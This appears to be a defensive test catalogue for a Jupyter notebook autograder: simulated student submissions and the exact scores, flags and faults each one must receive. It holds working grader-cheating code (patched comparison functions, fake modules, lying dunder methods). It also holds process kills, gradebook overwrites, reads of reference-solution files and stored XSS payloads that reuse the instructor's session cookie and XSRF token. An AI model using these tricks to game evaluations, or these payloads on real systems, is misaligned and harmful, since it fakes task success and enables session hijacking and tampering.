"""Submissions that attack the grader, each with the exact outcome it must get.

Every attack starts from the instructor's correct answers and changes what it needs. The
expected ``scores`` list the cells that lose points; all others must get full marks.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import nbformat
from nbformat import NotebookNode

from autograder import notebooks, parts

ALL_ZERO = {cell.grade_id: 0.0 for cell in parts.AUTOGRADED}

CROSS_ENTROPY_SUM = """
def cross_entropy(Y, Y_hat):
    return float(-np.sum(Y * np.log(Y_hat) + (1 - Y) * np.log(1 - Y_hat)))
"""

BACKWARD_WITHOUT_1_OVER_N = """
def backward(X, Y, params, cache):
    A1, A2 = cache["A1"], cache["A2"]
    dZ2 = A2 - Y
    dZ1 = (dZ2 @ params["W2"].T) * A1 * (1 - A1)
    return {"dW1": X.T @ dZ1, "db1": dZ1.sum(axis=0, keepdims=True),
            "dW2": A1.T @ dZ2, "db2": dZ2.sum(axis=0, keepdims=True)}
"""


PATCH_ABS = "import builtins\nbuiltins.abs = lambda value: 0\n"


@dataclass(frozen=True)
class Attack:
    """A submission and what grading it must give: scores, a tamper flag, a fault."""

    student: str
    answers: dict[str, str]
    scores: dict[str, float] = field(default_factory=dict)
    flagged: bool = False
    fault: str | None = None

    def notebook(self) -> NotebookNode:
        answers = {key: value.strip("\n") for key, value in self.answers.items()}
        return notebooks.fill({**notebooks.source_answers(), **answers})


def attacks(workdir: str, course_root: str) -> list[Attack]:
    """The catalogue; ``workdir`` is the grading run's course folder (to aim at its files)."""
    gradebook, other = f"{workdir}/gradebook.db", f"{workdir}/submitted/correct/sheet12/sheet12.ipynb"
    return [
        Attack(
            "patch_numpy",
            {
                "t12_2c_cross_entropy_solution": """
import math
import numpy.testing
import selfcheck
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
selfcheck._close = lambda got, expected: True
"""
                + CROSS_ENTROPY_SUM
            },
            {"t12_2c_cross_entropy": 0.0, "t12_2f_new_risk": 0.0},
            flagged=True,
        ),
        Attack(
            "patch_builtins",
            {
                "t12_2d_backward_solution": "import builtins\nbuiltins.abs = lambda value: 0\n"
                + BACKWARD_WITHOUT_1_OVER_N
            },
            {"t12_2d_backward": 0.0, "t12_2f_new_risk": 0.0},
        ),
        Attack(
            "silence_errors",
            {
                "t12_2b_sigmoid_solution": """
import io, sys
get_ipython().showtraceback = lambda *args, **kwargs: None
sys.stderr = io.StringIO()
def sigmoid(Z):
    raise ValueError("no")
"""
            },
            {"t12_2b_sigmoid": 0.0, "t12_2f_new_risk": 0.0},
        ),
        Attack(
            "input_transformer",
            {
                "t12_2a_count_parameters_solution": """
def count_parameters(layer_sizes):
    return sum(a * b + b for a, b in zip(layer_sizes[:-1], layer_sizes[1:]))
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""
            },
            ALL_ZERO,
            flagged=True,
            fault="no answer",
        ),
        Attack(
            "fake_modules",
            {
                "t12_2b_forward_solution": """
import importlib.abc, importlib.util, sys, types
class FakeAutograder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, self) if name.split(".")[0] == "autograder" else None
    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__path__ = []
        module.grade = lambda *args, **kwargs: 100.0
        return module
    def exec_module(self, module):
        pass
sys.meta_path.insert(0, FakeAutograder())
fake = types.ModuleType("selfcheck")
sys.modules["selfcheck"] = fake
check_forward = check_backward = check_cross_entropy = check_gd_step = check_new_risk = lambda *a, **k: None
def forward(X, params):
    Z1 = X @ params["W1"] + params["b1"]
    A1 = sigmoid(Z1)
    Z2 = A1 @ params["W2"] + params["b2"]
    return Z2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": Z2}
"""
            },
            {"t12_2b_forward": 0.0, "t12_2f_new_risk": 0.0},
            flagged=True,
        ),
        Attack(
            "array_protocols",
            {
                "t12_2c_cross_entropy_solution": """
class Sneaky:
    def __array_ufunc__(self, *args, **kwargs):
        return True
    def __array_function__(self, *args, **kwargs):
        return True
    def __float__(self):
        return 0.6964765384254519
    def __eq__(self, other):
        return True
def cross_entropy(Y, Y_hat):
    return Sneaky()
"""
            },
            {"t12_2c_cross_entropy": 0.0, "t12_2f_new_risk": 0.0},
        ),
        Attack(
            "lying_dunders",
            {
                "t12_2a_count_parameters_solution": """
class Int(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def count_parameters(layer_sizes):
    return Int(6)
""",
                "t12_2e_gd_step_solution": """
import selfcheck
selfcheck._close = lambda got, expected: True
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    def __sub__(self, other):
        return np.zeros(self.shape)
    def __abs__(self):
        return np.zeros(self.shape)
    def __float__(self):
        return 0.0
def gd_step(params, grads, lr):
    return {k: (v + lr * grads["d" + k]).view(Liar) for k, v in params.items()}
""",
            },
            {"t12_2a_count_parameters": 0.0, "t12_2e_gd_step": 0.0, "t12_2f_new_risk": 0.0},
            flagged=True,
        ),
        Attack(
            "benign_subclass",
            {
                "t12_2d_backward_solution": """
class Tagged(np.ndarray):
    pass
def backward(X, Y, params, cache):
    n = X.shape[0]
    A1, A2 = cache["A1"], cache["A2"]
    dZ2 = (A2 - Y) / n
    dZ1 = (dZ2 @ params["W2"].T) * A1 * (1 - A1)
    grads = {"dW1": X.T @ dZ1, "db1": dZ1.sum(axis=0, keepdims=True),
             "dW2": A1.T @ dZ2, "db2": dZ2.sum(axis=0, keepdims=True)}
    return {key: value.view(Tagged) for key, value in grads.items()}
"""
            },
        ),
        Attack(
            "reads_course_files",
            {
                "t12_2d_backward_solution": f"""
import glob, os
candidates = ["../../../source/sheet12/sheet12.ipynb", "../../../autograder/reference.py",
              "../../../gradebook.db", "{course_root}/autograder/reference.py",
              "{workdir}/gradebook.db", "{workdir}/source/sheet12/sheet12.ipynb", "{other}"]
found = [path for path in candidates if os.path.exists(path)]
found += glob.glob("/*/*/autograder/reference.py") + glob.glob("/tmp/*/gradebook.db")
print("course files found:", found)
def backward(X, Y, params, cache):
    if found:
        namespace = {{}}
        exec(open(found[0]).read(), namespace)
        return namespace["backward"](X, Y, params, cache)
    return {{"d" + key: np.zeros_like(value) for key, value in params.items()}}
"""
            },
            {"t12_2d_backward": 0.0, "t12_2f_new_risk": 0.0},
        ),
        Attack(
            "loop_in_cell",
            {
                "t12_2a_count_parameters_solution": """
while True:
    pass
def count_parameters(layer_sizes):
    return sum(a * b + b for a, b in zip(layer_sizes[:-1], layer_sizes[1:]))
"""
            },
            {"t12_2a_count_parameters": 0.0},
            fault="timeout",
        ),
        Attack(
            "loop_in_call",
            {"t12_2b_sigmoid_solution": "def sigmoid(Z):\n    while True:\n        pass"},
            {"t12_2b_sigmoid": 0.0, "t12_2f_new_risk": 0.0},
            fault="timeout",
        ),
        Attack(
            "os_exit",
            {"t12_2e_gd_step_solution": "import os\ndef gd_step(params, grads, lr):\n    os._exit(1)"},
            {"t12_2e_gd_step": 0.0, "t12_2f_new_risk": 0.0},
            fault="crash",
        ),
        Attack(
            "sys_exit",
            {"t12_2c_cross_entropy_solution": "import sys\ndef cross_entropy(Y, Y_hat):\n    sys.exit(3)"},
            {"t12_2c_cross_entropy": 0.0, "t12_2f_new_risk": 0.0},
        ),
        Attack(
            "kill_grader",
            {
                "t12_1_1_statements_solution": """
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print("kill failed:", error)
statement_answers = (True, True, True, False)
"""
            },
        ),
        Attack(
            "detached_child",
            {
                "t12_1_1_statements_solution": f"""
import subprocess, sys
code = '''
import time
time.sleep(2)
for target in {[gradebook, other]!r}:
    try:
        open(target, "w").write("owned")
    except OSError:
        pass
'''
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
statement_answers = (True, True, True, False)
"""
            },
        ),
        Attack(
            "memory_bomb",
            {
                "t12_2d_backward_solution": """
def backward(X, Y, params, cache):
    hoard = np.ones((10**6, 10**4))
    return {"dW1": hoard}
"""
            },
            {"t12_2d_backward": 0.0, "t12_2f_new_risk": 0.0},
            fault="memory",
        ),
        Attack(
            "huge_output",
            {
                "t12_1_1_statements_solution": 'for _ in range(100_000):\n    print("x" * 99)\n'
                "statement_answers = (True, True, True, False)"
            },
        ),
        Attack(
            "stderr_warnings",
            {
                "t12_2b_sigmoid_solution": """
import sys, warnings
print("a note on stderr", file=sys.stderr)
def sigmoid(Z):
    warnings.warn("sigmoid called", RuntimeWarning)
    print("debug", file=sys.stderr)
    return 1 / (1 + np.exp(-Z))
"""
            },
        ),
        Attack(
            "syntax_error",
            {"t12_2b_forward_solution": "def forward(X, params)\n    return X"},
            {"t12_2b_forward": 0.0, "t12_2f_new_risk": 0.0},
        ),
    ]


def edited_cells() -> tuple[Attack, NotebookNode]:
    """A test cell edited, one deleted, and a graded cell added, around two mistakes."""
    attack = Attack(
        "edited_cells",
        {"t12_2c_cross_entropy_solution": CROSS_ENTROPY_SUM, "t12_2d_backward_solution": BACKWARD_WITHOUT_1_OVER_N},
        {"t12_2c_cross_entropy": 0.0, "t12_2d_backward": 0.0, "t12_2f_new_risk": 0.0},
    )
    notebook = attack.notebook()
    by_id = {notebooks.grade_id(cell): cell for cell in notebook.cells}
    by_id["t12_2c_cross_entropy"].source = "pass  # nothing to check here"
    notebook.cells.remove(by_id["t12_2d_backward"])
    extra = nbformat.v4.new_code_cell("print('free points')")
    extra.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "t12_extra",
        "locked": True,
        "points": 50,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    notebook.cells.append(extra)
    return attack, notebook


#: JavaScript that leaves a trace where it runs and tries what the formgrader hole allowed: a PUT
#: to the Jupyter server's contents API with the instructor's session (cookie and XSRF token).
PWN_JS = (
    "(window.top.__pwned = (window.top.__pwned || []).concat(['{tag}'])),"
    "fetch('/api/contents/PWNED-{tag}.txt', {{method: 'PUT', credentials: 'include',"
    " headers: {{'Content-Type': 'application/json',"
    " 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}},"
    " body: JSON.stringify({{type: 'file', format: 'text', content: 'pwned'}})}})"
)


def pwn(tag: str) -> str:
    """The attack's script, marked with where it was planted."""
    return PWN_JS.format(tag=tag)


def browser_attack() -> tuple[Attack, NotebookNode]:
    """Correct answers, plus HTML and script in every place a student can write or print them:
    both written answers, an added markdown cell (javascript: link, mermaid block), outputs
    (HTML, JavaScript, SVG, image metadata), a raw HTML cell and the notebook's title."""
    html = '<b>bold</b><img src=x onerror="' + pwn("html_output") + '">'
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="' + pwn("svg") + '"/>'
    width = f"1 onerror={pwn('png_width')}"
    attack = Attack(
        "browser_attack",
        {
            "t12_1_1_justification": f'All true but the last. <img src=x onerror="{pwn("justification")}">',
            "t12_2f_discussion": f'It went down. <svg onload="{pwn("discussion")}"></svg>',
            "t12_2a_count_parameters_solution": "\n".join(
                [
                    "from IPython.display import HTML, SVG, Javascript, display",
                    f"display(HTML({html!r}))",
                    f"display(Javascript({pwn('js_output')!r}))",
                    f"display(SVG({svg!r}))",
                    "display({'image/png': 'iVBORw0KGgo='}, raw=True,"
                    f" metadata={{'image/png': {{'width': {width!r}}}}})",
                    "def count_parameters(layer_sizes):",
                    "    return sum(a * b + b for a, b in zip(layer_sizes[:-1], layer_sizes[1:]))",
                ]
            ),
        },
    )
    notebook = attack.notebook()
    link = f"[a harmless link](<javascript:{pwn('link')}>)"
    mermaid = f'```mermaid\n</pre><img src=x onerror="{pwn("mermaid")}">\n```'
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell(f"{link}\n\n{mermaid}"))
    raw = nbformat.v4.new_raw_cell(f'<img src=x onerror="{pwn("raw_cell")}">')
    raw.metadata["raw_mimetype"] = "text/html"
    notebook.cells.insert(2, raw)
    notebook.metadata["title"] = f'</title><img src=x onerror="{pwn("title")}">'
    return attack, notebook
